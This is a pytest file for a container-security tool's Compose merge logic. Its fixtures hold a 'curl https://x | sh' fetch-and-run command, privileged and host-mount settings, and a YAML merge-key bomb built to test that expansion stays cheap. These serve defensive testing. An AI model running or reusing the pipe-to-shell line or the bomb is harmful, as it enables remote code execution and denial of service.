"""Merging Compose files by the specification's rules, on YAML nodes that keep their marks."""

from __future__ import annotations

from pathlib import Path

import pytest

from hullcheck.model.container import ComposeFile, Container
from hullcheck.model.span import Located, resolved
from hullcheck.parsers.compose_project import ProjectOptions, load_compose_project


def merged(tmp_path: Path, base: str, override: str) -> Container:
    (tmp_path / "compose.yaml").write_text(base, encoding="utf-8")
    (tmp_path / "compose.override.yaml").write_text(override, encoding="utf-8")
    project = load_compose_project(
        base, "compose.yaml", str(tmp_path / "compose.yaml"), ProjectOptions(), str(tmp_path)
    )
    assert not project.parse.problems, project.parse.problems
    model = project.parse.model
    assert isinstance(model, ComposeFile)
    (container,) = model.containers
    return container


def where(located: Located[object]) -> tuple[str, int]:
    return (located.span.path or "compose.yaml", located.span.line)


def test_scalars_are_replaced_and_mappings_merged(tmp_path: Path) -> None:
    container = merged(
        tmp_path,
        "services:\n  web:\n    image: nginx:1.26\n    user: app\n",
        "services:\n  web:\n    image: nginx:1.27\n",
    )
    assert container.image is not None and where(container.image) == ("compose.override.yaml", 3)
    assert (
        container.user is not None and resolved(container.user) == "app" and where(container.user)[0] == "compose.yaml"
    )


def test_lists_are_appended_without_repeating_an_entry(tmp_path: Path) -> None:
    container = merged(
        tmp_path,
        "services:\n  web:\n    cap_add: [NET_ADMIN, CHOWN]\n",
        "services:\n  web:\n    cap_add: [CHOWN, SYS_TIME]\n",
    )
    assert [resolved(cap) for cap in container.cap_add] == ["NET_ADMIN", "CHOWN", "SYS_TIME"]


def test_volumes_merge_by_target_and_ports_by_their_whole_key(tmp_path: Path) -> None:
    container = merged(
        tmp_path,
        "services:\n  web:\n    volumes:\n      - /var/run/docker.sock:/sock\n      - data:/data\n"
        "    ports:\n      - 127.0.0.1:80:80\n      - 443:443\n",
        "services:\n  web:\n    volumes:\n      - type: volume\n        source: safe\n        target: /sock\n"
        "    ports:\n      - 127.0.0.1:80:80\n      - 8443:443\n",
    )
    sources = {resolved(mount.target): resolved(mount.source) for mount in container.mounts}
    assert sources == {"/data": "data", "/sock": "safe"}
    assert sorted((port.published, port.target) for port in container.ports) == [
        ("443", "443"),
        ("80", "80"),
        ("8443", "443"),
    ]


@pytest.mark.parametrize(
    ("base", "override"),
    [
        ("    environment:\n      DEBUG: '0'\n      KEEP: 'yes'\n", "    environment:\n      DEBUG: '1'\n"),
        ("    environment:\n      - DEBUG=0\n      - KEEP=yes\n", "    environment:\n      - DEBUG=1\n"),
        ("    environment:\n      DEBUG: '0'\n      KEEP: 'yes'\n", "    environment:\n      - DEBUG=1\n"),
        ("    environment:\n      - DEBUG=0\n      - KEEP=yes\n", "    environment:\n      DEBUG: '1'\n"),
    ],
    ids=["mappings", "lists", "mapping-then-list", "list-then-mapping"],
)
def test_environment_merges_by_name_in_either_form(tmp_path: Path, base: str, override: str) -> None:
    container = merged(tmp_path, f"services:\n  web:\n{base}", f"services:\n  web:\n{override}")
    values = {name: resolved(value) for name, value in container.environment.items()}
    assert values == {"DEBUG": "1", "KEEP": "yes"}
    assert where(container.environment["DEBUG"])[0] == "compose.override.yaml"


def test_command_is_replaced_not_appended(tmp_path: Path) -> None:
    container = merged(
        tmp_path,
        'services:\n  web:\n    command: [sh, -c, "curl https://x | sh"]\n',
        "services:\n  web:\n    command: [nginx]\n",
    )
    assert container.command is not None
    assert [command.raw for pipeline in container.command.pipelines for command in pipeline.commands] == [("nginx",)]


def test_reset_removes_and_override_replaces(tmp_path: Path) -> None:
    container = merged(
        tmp_path,
        'services:\n  web:\n    privileged: true\n    cap_add: [SYS_ADMIN]\n    volumes: ["/etc:/etc"]\n',
        "services:\n  web:\n    privileged: !reset null\n    cap_add: !override [CHOWN]\n    volumes: !reset []\n",
    )
    assert container.privileged is None
    assert [resolved(cap) for cap in container.cap_add] == ["CHOWN"]
    assert container.mounts == []


def test_yaml_merge_keys_count_in_both_files(tmp_path: Path) -> None:
    container = merged(
        tmp_path,
        "x-base: &base\n  user: root\nservices:\n  web:\n    <<: *base\n    image: nginx:1.27\n",
        "x-safe: &safe\n  user: app\nservices:\n  web:\n    <<: *safe\n",
    )
    assert container.user is not None and resolved(container.user) == "app"
    assert where(container.user) == ("compose.override.yaml", 2)


def test_a_merge_key_bomb_in_an_override_stays_cheap(tmp_path: Path) -> None:
    levels = ["x-a0: &a0 {x-k0: 1}"]
    for level in range(1, 40):  # each level merges the previous one twice: 2**40 paths if expanded
        levels.append(f"x-a{level}: &a{level}\n  <<: [*a{level - 1}, *a{level - 1}]\n  x-k{level}: 1")
    override = "\n".join(levels) + "\nservices:\n  web:\n    <<: *a39\n"
    container = merged(tmp_path, "services:\n  web:\n    image: nginx:1.27\n", override)
    assert container.image is not None


def test_a_port_in_the_long_form_replaces_the_same_port_in_the_short_form(tmp_path: Path) -> None:
    container = merged(
        tmp_path,
        "services:\n  web:\n    ports:\n      - 8080:80\n",
        "services:\n  web:\n    ports:\n      - target: 80\n        published: 8080\n        host_ip: 127.0.0.1\n"
        "      - target: 80\n        published: '8080'\n",
    )
    assert sorted((port.host_ip or "", port.published) for port in container.ports) == [
        ("", "8080"),
        ("127.0.0.1", "8080"),
    ]
    assert len(container.ports) == 2
